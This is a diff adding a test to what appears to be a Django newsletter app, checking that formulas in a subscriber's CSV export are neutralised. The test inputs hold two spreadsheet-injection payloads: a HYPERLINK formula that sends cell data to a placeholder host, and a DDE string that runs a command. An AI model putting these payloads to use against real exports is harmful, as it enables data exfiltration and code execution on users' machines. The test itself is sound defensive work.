@@ -113,6 +113,37 @@ def test_it_exports_the_same_as_csv_for_swedish_excel(client, reader):
     assert consent_actions == ["subscribe", "confirm", "export_request", "export"]
 
 
+def test_it_keeps_formulas_in_the_csv_export_as_text(client):
+    # Everything in a sign-up is typed by whoever signs up, the browser string included.
+    hostile_name = '=HYPERLINK("http://example.invalid/?"&A1;"Klicka")'
+    hostile_browser = "@SUM(1+9)*cmd|' /C calc'!A0"
+    post_committed(
+        client,
+        "/prenumerera/",
+        {
+            "name": hostile_name,
+            "email": "formel@example.se",
+            "organisation": "+46 8 123 45 67",
+            "channel": "email",
+            "language": "sv",
+        },
+        HTTP_USER_AGENT=hostile_browser,
+    )
+    client.post(path_from_text(mail.outbox[-1].body, "/prenumerera/bekrafta/"))
+    subscriber = Subscriber.objects.get(email="formel@example.se")
+
+    response = export_download(client, subscriber, "csv")
+
+    content = response.content.decode().removeprefix("\ufeff")
+    rows = list(csv.DictReader(io.StringIO(content), delimiter=";"))
+    cells = {(row["section"], row["row"], row["field"]): row["value"] for row in rows}
+    assert cells[("subscriber", "", "name")] == "'" + hostile_name
+    assert cells[("subscriber", "", "organisation_given")] == "'+46 8 123 45 67"
+    assert cells[("consent_events", "1", "user_agent")] == "'" + hostile_browser
+    formula_start = ("=", "+", "-", "@", "\t", "\r")
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(formula_start)]
+
+
 def test_it_asks_before_erasing_when_the_link_is_opened(client, reader):
     link = privacy_link_request(client, reader, "erase")
 
